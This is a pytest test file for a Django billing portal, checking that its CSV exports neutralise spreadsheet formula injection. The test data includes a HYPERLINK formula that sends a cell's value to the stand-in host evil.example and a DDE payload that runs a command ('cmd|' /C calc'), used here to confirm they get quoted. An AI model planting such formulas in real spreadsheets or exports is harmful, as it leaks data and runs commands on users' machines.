"""Spreadsheet formula injection: every CSV export goes through sparklin.csv_safe."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command

from accounts import privacy
from billing.exports import write_notes_csv
from sparklin import csv_safe
from tests import builders
from tests.communities.portal_data import local, make_session

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
    "＝1+2",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_quoted(text):
    assert csv_safe.cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Alice", "Dupont-Martin", "a=b", "", "04A23B11", "2025-01-01T00:30:00+01:00"]
)
def test_ordinary_text_is_unchanged(text):
    assert csv_safe.cell(text) == text


def test_typed_columns_keep_numbers_and_phones_and_only_them():
    assert csv_safe.cell("-1.250", csv_safe.NUMBER) == "-1.250"
    assert csv_safe.cell("+12.5", csv_safe.NUMBER) == "+12.5"
    assert csv_safe.cell("-1+cmd|' /C calc'!A0", csv_safe.NUMBER) == "'-1+cmd|' /C calc'!A0"
    assert csv_safe.cell("+33612345678", csv_safe.PHONE) == "+33612345678"
    assert csv_safe.cell("+33612345678") == "'+33612345678"  # untyped column: text
    assert csv_safe.cell("+3361=1+2", csv_safe.PHONE) == "'+3361=1+2"
    assert csv_safe.cell(Decimal("-3.10")) == "-3.10" and csv_safe.cell(-4) == "-4"


def test_writer_types_columns_by_name():
    out = io.StringIO()
    writer = csv_safe.writer(out, columns=["name", "amount"], types={"amount": csv_safe.NUMBER})
    writer.writerow(["=1+2", "-5.00"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+2", "-5.00"]
    with pytest.raises(ValueError):
        csv_safe.writer(out, columns=["a"], types={"b": csv_safe.NUMBER})


@pytest.fixture
def poisoned_session(community, charger):
    user = builders.make_user(first_name='=HYPERLINK("http://evil.example")', last_name="")
    builders.make_member(community, user=user)
    card = builders.make_card(community, holder=user, uid="@SUM(1)")
    return make_session(
        charger, None, user, card, energy_wh="1500", started_at=local(community, 2025, 1, 3, 8)
    )


def _rows(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_sessions_csv_from_the_portal_is_neutralised(manager_client, poisoned_session):
    response = manager_client.get("/c/tilleuls/exports/sessions.csv", {"month": "2025-01"})
    (row,) = _rows(b"".join(response.streaming_content).decode())
    assert row["user"] == '\'=HYPERLINK("http://evil.example")'
    assert row["card"] == "'@SUM(1)"
    assert row["energy_kwh"] == "1.500" and row["cost"] == "0.38"


def test_export_sessions_command_is_neutralised(community, poisoned_session):
    out = io.StringIO()
    call_command("export_sessions", community=community.slug, month="2025-01", stdout=out)
    (row,) = _rows(out.getvalue())
    assert row["user"].startswith("'=") and row["card"] == "'@SUM(1)"


def test_notes_csv_is_neutralised():
    class Note:
        number, version, replaces_id, holder_name = "N-1", 1, None, "=1+2"
        month_label, session_count, energy_wh, amount = "2025-01", 2, 1500, Decimal("-0.38")
        currency = "EUR"

        class created_at:  # noqa: N801
            @staticmethod
            def isoformat():
                return "2025-02-01T06:00:00+01:00"

    out = io.StringIO()
    write_notes_csv(out, [Note()])
    (row,) = _rows(out.getvalue())
    assert row["driver"] == "'=1+2" and row["amount"] == "-0.38" and row["energy_kwh"] == "1.500"


def test_personal_data_csv_keeps_the_phone_and_neutralises_names(community):
    user = builders.make_user(phone="+33612345678", first_name="-2+3", email="@x.example")
    text = privacy.export_user_data_csv(user)
    values = {r["field"]: r["value"] for r in _rows(text) if r["section"] == "profile"}
    assert values["phone"] == "+33612345678"
    assert values["first_name"] == "'-2+3" and values["email"] == "'@x.example"
